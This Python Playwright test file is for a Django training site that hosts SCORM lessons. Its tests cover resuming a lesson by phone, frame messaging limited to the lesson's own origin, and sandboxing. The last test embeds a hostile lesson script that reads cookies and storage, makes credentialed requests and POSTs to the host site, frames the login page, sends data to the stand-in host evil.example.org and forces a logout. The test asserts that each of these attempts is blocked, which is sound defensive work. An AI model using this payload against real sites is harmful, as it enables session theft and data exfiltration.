"""Online lessons in a browser: played, left and gone on with by phone; a hostile one reaches nothing."""

import json
from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import FrameLocator, Page, expect
from tests.browser.acting import sign_in
from tests.factories.accounts import PASSWORD, person_with
from tests.factories.jurisdictions import JurisdictionFactory, PartnershipFactory
from tests.factories.scorm import lesson_in, package
from tests.factories.scorm import page as lesson_page
from tests.factories.training import ApplicationFactory, CohortFactory, SessionFactory

from interlocal.foundation.notices.public import sign_path
from interlocal.programs.training.models import Application, HandIn, Lesson, LessonProgress
from interlocal.programs.training.rules import learner_path

pytestmark = pytest.mark.django_db(transaction=True)
PHONE = {"width": 320, "height": 640}
# Begins where it was left, and is passed by the button.
LESSON = lesson_page(
    """
    api.LMSInitialize("");
    var place = Number(api.LMSGetValue("cmi.core.lesson_location") || 1);
    say(api.LMSGetValue("cmi.core.student_name") + ", page " + place + ", " +
        api.LMSGetValue("cmi.core.entry") + ", " + api.LMSGetValue("cmi.suspend_data"));
    document.getElementById("next").onclick = function () {
      place += 1;
      api.LMSSetValue("cmi.core.lesson_location", String(place));
      api.LMSSetValue("cmi.suspend_data", "answers=" + place);
      api.LMSSetValue("cmi.core.lesson_status", "incomplete");
      say("page " + place);
    };
    document.getElementById("pass").onclick = function () {
      api.LMSSetValue("cmi.core.score.raw", "85");
      api.LMSSetValue("cmi.core.lesson_status", "passed");
      say("committed " + api.LMSCommit(""));
    };
    window.addEventListener("unload", function () {
      api.LMSSetValue("cmi.core.session_time", "0000:01:30");
      api.LMSSetValue("cmi.core.exit", "suspend");
      api.LMSFinish("");
    });
    """,
    '<button id="next">Next page</button> <button id="pass">Finish the quiz</button>',
)


@pytest.fixture
def seated() -> Application:
    """Return a learner with a seat in a cohort that runs."""
    PartnershipFactory.create()
    city = JurisdictionFactory(name="Grandview")
    cohort = CohortFactory(seats=1, shares={city: 1})
    SessionFactory(cohort=cohort)
    return ApplicationFactory(cohort=cohort, jurisdiction=city, seated=True, seat=cohort.seats.get())


def _address(site: str, application: Application, lesson: Lesson) -> str:
    root = learner_path(application.learner)
    task = f"{application.public_id}/homework/{lesson.homework.public_id}/"
    return f"{site}{root}{sign_path(root)}/{task}"


@pytest.fixture(params=["alone", "apart"])
def mode(request: pytest.FixtureRequest, live_server: Any, settings: Any) -> str:
    """Play without a second name, and under one."""
    if request.param == "apart":
        settings.INTERLOCAL_CONTENT_URL = live_server.url.replace("//", "//lessons.")
        settings.ALLOWED_HOSTS = [*settings.ALLOWED_HOSTS, ".localhost"]
    return str(request.param)


def _frame(page: Page) -> FrameLocator:
    frame = page.frame_locator("iframe")
    return frame.frame_locator("iframe") if settings.INTERLOCAL_CONTENT_URL else frame


@pytest.mark.usefixtures("mode")
def test_learner_plays_leaves_and_goes_on_by_phone(
    page: Page, live_server: Any, check_page: Any, seated: Application
) -> None:
    lesson = lesson_in(seated.cohort.course, package({"index.html": LESSON}))
    page.set_viewport_size(PHONE)
    page.goto(_address(live_server.url, seated, lesson))
    check_page(page, "training-lesson-before")
    page.get_by_role("button", name="Begin the lesson").click()
    expect(_frame(page).locator("#said")).to_have_text(f"{seated.learner.name}, page 1, ab-initio, ")
    _frame(page).get_by_role("button", name="Next page").click()
    expect(_frame(page).locator("#said")).to_have_text("page 2")
    page.get_by_role("link", name="Save and leave").click()
    page.wait_for_url("**/homework/*/")

    left = LessonProgress.objects.get()
    assert (left.location, left.suspend_data, left.status) == ("2", "answers=2", "incomplete")
    assert (left.last_exit, left.total_time) == ("suspend", 9000)

    page.get_by_role("button", name="Go on with the lesson").click()
    expect(_frame(page).locator("#said")).to_have_text(f"{seated.learner.name}, page 2, resume, answers=2")
    check_page(page, "training-lesson")
    _frame(page).get_by_role("button", name="Finish the quiz").click()
    expect(page.get_by_text("The lesson is done, and your coordinator sees it.")).to_be_visible()
    page.get_by_role("link", name="Save and leave").click()
    page.wait_for_url("**/homework/*/")

    assert "Accepted" in page.inner_text("main")
    done = LessonProgress.objects.get()
    assert (done.status, str(done.score), done.total_time) == ("passed", "85.00", 18000)
    assert HandIn.objects.get().accepted_at == done.done_at


@pytest.mark.usefixtures("mode")
def test_second_page_stops_the_first(page: Page, live_server: Any, seated: Application) -> None:
    lesson = lesson_in(seated.cohort.course, package({"index.html": LESSON}))
    address = _address(live_server.url, seated, lesson)
    page.goto(address)
    page.get_by_role("button", name="Begin the lesson").click()
    expect(_frame(page).locator("#said")).to_contain_text("page 1")
    other = page.context.new_page()
    other.goto(address)
    other.get_by_role("button", name="Go on with the lesson").click()
    expect(_frame(other).locator("#said")).to_contain_text("page 1")
    _frame(page).get_by_role("button", name="Finish the quiz").click()

    expect(page.locator("[data-standing]")).to_contain_text("This lesson was opened on another page.")
    assert not HandIn.objects.exists()


# What a lesson says when it is finished, from whichever window and origin is asked for.
SAY = """([fromFrame, origin, what]) => {
  const frame = document.querySelector("iframe").contentWindow;
  const values = { "cmi.core.lesson_status": "passed" };
  dispatchEvent(new MessageEvent("message", {
    data: { kind: "interlocal-lesson", what, values }, origin, source: fromFrame ? frame : window,
  }));
}"""


def test_message_of_another_window_or_origin_is_not_taken(
    page: Page, live_server: Any, seated: Application, mode: str
) -> None:
    lesson = lesson_in(seated.cohort.course, package({"index.html": "<p>silent</p>"}))
    page.goto(_address(live_server.url, seated, lesson))
    page.get_by_role("button", name="Begin the lesson").click()
    expect(_frame(page).locator("p")).to_have_text("silent")
    page.wait_for_load_state("networkidle")
    own = page.locator("[data-lesson]").get_attribute("data-origin")
    assert own == ("null" if mode == "alone" else live_server.url.replace("//", "//lessons."))
    told = list[str]()
    page.on("request", lambda request: told.append(request.method))

    others = {
        "https://evil.example.org",
        live_server.url,
        "null",
        live_server.url.replace("//", "//lessons."),
    }
    for origin in others - {own}:
        page.evaluate(SAY, [True, origin, "finish"])
    page.evaluate(SAY, [False, own, "finish"])
    page.evaluate("postMessage({kind: 'interlocal-lesson', what: 'finish', values: {}}, '*')")
    for what in ("constructor", "toString", "__proto__", "anything"):
        page.evaluate(SAY, [True, own, what])
    page.wait_for_timeout(500)
    assert told == []
    assert not HandIn.objects.exists()

    page.evaluate(SAY, [True, own, "finish"])
    expect(page.get_by_text("The lesson is done, and your coordinator sees it.")).to_be_visible()
    assert told[0] == "POST"


# As large authoring tools build it: frames in a page that drives them and seeks the runtime from its parent.
DRIVER = """<!DOCTYPE html><html lang="en"><head><title>Driver</title><script>
var api = null, win = window;
while (win.parent !== win && !api) { win = win.parent; api = win.API; }
api.LMSInitialize("");
function reached(place) { api.LMSSetValue("cmi.core.lesson_location", place); }
function finished() { api.LMSSetValue("cmi.core.lesson_status", "completed"); api.LMSFinish(""); }
</script></head><frameset rows="*,0"><frame title="Lesson" src="content/one.html" name="content">
<frame src="blank.html">
</frameset></html>"""
ONE = """<!DOCTYPE html><html lang="en"><head><title>One</title></head><body><p id="said">page one</p>
<button onclick="parent.reached('two'); location.href = 'two.html'">Next page</button></body></html>"""
TWO = """<!DOCTYPE html><html lang="en"><head><title>Two</title></head><body><p id="said">page two</p>
<script>window.onunload = function () { parent.finished(); };</script></body></html>"""


def test_lesson_of_frames_plays_under_the_second_name(
    page: Page, live_server: Any, seated: Application, mode: str
) -> None:
    files = {"index.html": DRIVER, "content/one.html": ONE, "content/two.html": TWO, "blank.html": "<p></p>"}
    lesson = lesson_in(seated.cohort.course, package(files))
    page.goto(_address(live_server.url, seated, lesson))
    page.get_by_role("button", name="Begin the lesson").click()
    content = _frame(page).frame_locator("frame[name=content]")
    content.get_by_role("button", name="Next page").click()
    if mode == "alone":
        # Frames without an origin are strangers to one another: the lesson stays where it is.
        expect(content.locator("#said")).to_have_text("page one")
        return
    expect(content.locator("#said")).to_have_text("page two")
    page.get_by_role("link", name="Save and leave").click()
    page.wait_for_url("**/homework/*/")

    done = LessonProgress.objects.get()
    assert (done.location, done.status) == ("two", "completed")
    assert "Accepted" in page.inner_text("main")


HOSTILE = lesson_page(
    """
    var found = {};
    function tries(name, what) {
      try { found[name] = String(what()); } catch (error) { found[name] = error.name; }
    }
    async function asks(name, what) {
      try { found[name] = String(await what()); } catch (error) { found[name] = error.name; }
    }
    tries("cookie", function () { return document.cookie; });
    tries("storage", function () { return localStorage.length; });
    tries("around", function () { return top.document.title; });
    tries("address", function () { return top.location.href; });
    tries("top", function () { top.location = "about:blank"; return "went"; });
    tries("popup", function () { return open("/"); });
    tries("referrer", function () { return document.referrer; });
    tries("origin", function () { return self.origin; });
    (async function () {
      var site = new URL(location.href).origin.replace("//lessons.", "//");
      await asks("page", async () => (await fetch(site + "/", {credentials: "include"})).status);
      await asks("static", async () => (await fetch(site + "/static/web/interlocal.css")).status);
      var send = {method: "POST", credentials: "include"};
      await asks("post", async () => (await fetch(site + "/programs/training/courses/add/", send)).status);
      await asks("beacon", async () => navigator.sendBeacon(site + "/", "x"));
      await asks("worker", async () => (await navigator.serviceWorker.register("script/find.js")).scope);
      await asks("own", async () => (await fetch("script/find.js")).status);
      await new Promise(function (next) {
        var frame = document.createElement("iframe");
        frame.src = site + "/account/login/";
        frame.onload = next;
        document.body.append(frame);
        setTimeout(next, 1500);
      });
      tries("framed", function () { return frames[0].document.title; });
      await asks("evil", async () => (await fetch("https://evil.example.org/?" + found.own)).status);
      var form = document.createElement("form");
      form.method = "post"; form.action = site + "/account/logout/";
      document.body.append(form);
      say(JSON.stringify(found));
      setTimeout(function () { form.submit(); }, 3000);
    })();
    """
)


def test_hostile_package_cannot_reach_the_session(
    page: Page, live_server: Any, seated: Application, mode: str
) -> None:
    lesson = lesson_in(seated.cohort.course, package({"index.html": HOSTILE}))
    course = seated.cohort.course.public_id
    user = person_with("training-coordinator", password=PASSWORD)
    sign_in(page, live_server.url, user.email)
    site, asked = live_server.url, list[str]()
    page.goto(f"{site}/programs/training/courses/{course}/lessons/{lesson.homework.public_id}/try/")
    page.on("request", lambda request: asked.append(request.url.removeprefix(site)))
    expect(_frame(page).locator("#said")).to_contain_text("{", timeout=15000)

    found = json.loads(_frame(page).locator("#said").inner_text())
    # Under the second name it has an origin, with nothing in it.
    own = {"cookie": "SecurityError", "storage": "SecurityError", "origin": "null", "worker": "SecurityError"}
    if mode == "apart":
        origin = site.replace("//", "//lessons.")
        own = {"cookie": "", "origin": origin, **{name: found[name] for name in ("storage", "worker")}}
        assert found["storage"] in {"0", "SecurityError"}  # as the browser treats frames of other sites
    assert found == {
        **own,
        "around": "SecurityError",
        "address": "SecurityError",
        "top": "SecurityError",
        "popup": "null",
        "referrer": "",
        "page": "TypeError",
        "static": "TypeError",
        "post": "TypeError",
        "beacon": "true",
        "own": "200",
        "framed": "SecurityError",
        "evil": "TypeError",
    }
    expect(_frame(page).locator("#said")).to_have_count(0)
    assert [one for one in asked if "/lessons/" not in one and "/static/" not in one] == []
    page.goto(f"{site}/programs/training/courses/{course}/")
    assert "/login/" not in page.url
